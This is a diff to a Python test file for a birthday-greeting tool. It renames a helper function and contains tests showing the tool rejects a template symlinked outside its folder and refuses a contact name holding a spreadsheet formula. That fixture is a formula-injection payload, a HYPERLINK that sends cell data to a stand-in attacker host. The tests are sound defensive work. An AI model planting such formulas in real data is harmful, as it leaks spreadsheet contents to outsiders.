@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import MakeProject, contact_row
-from tests.test_send_e2e import greeter
+from tests.test_send_e2e import greeter_process
 
 BLOCKS = "{%% block subject %%}S{%% endblock %%}{%% block text %%}%s{%% endblock %%}"
 
@@ -46,7 +46,7 @@ def test_check_says_what_the_template_does(
     secret = tmp_path.parent / f"{tmp_path.name}-secret.j2"
     secret.write_text("a file outside the folder", encoding="utf-8")
     (templates / "leak.j2").symlink_to(secret)
-    run = greeter(config, "check")
+    run = greeter_process(config, "check")
     assert run.returncode != 0
     assert f"birthday.j2:1:1: {said}" in run.stdout + run.stderr, run.stdout + run.stderr
     assert "RecursionError" not in run.stdout + run.stderr and "(34," not in run.stdout + run.stderr
@@ -57,7 +57,7 @@ def test_a_formula_in_a_name_is_said_to_be_one_not_lost_letters(make_project: Ma
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
     quoted_cell = '"' + formula.replace('"', '""') + '"'
     config = make_project([contact_row("1", "one@example.com", last=quoted_cell, birthday="13.04.1980")])
-    run = greeter(config, "check")
+    run = greeter_process(config, "check")
     out = run.stdout + run.stderr
     assert "is a spreadsheet formula, not a name; the row is not loaded" in out, out
     assert "UTF-8" not in out.split("spreadsheet formula")[1].splitlines()[0], out
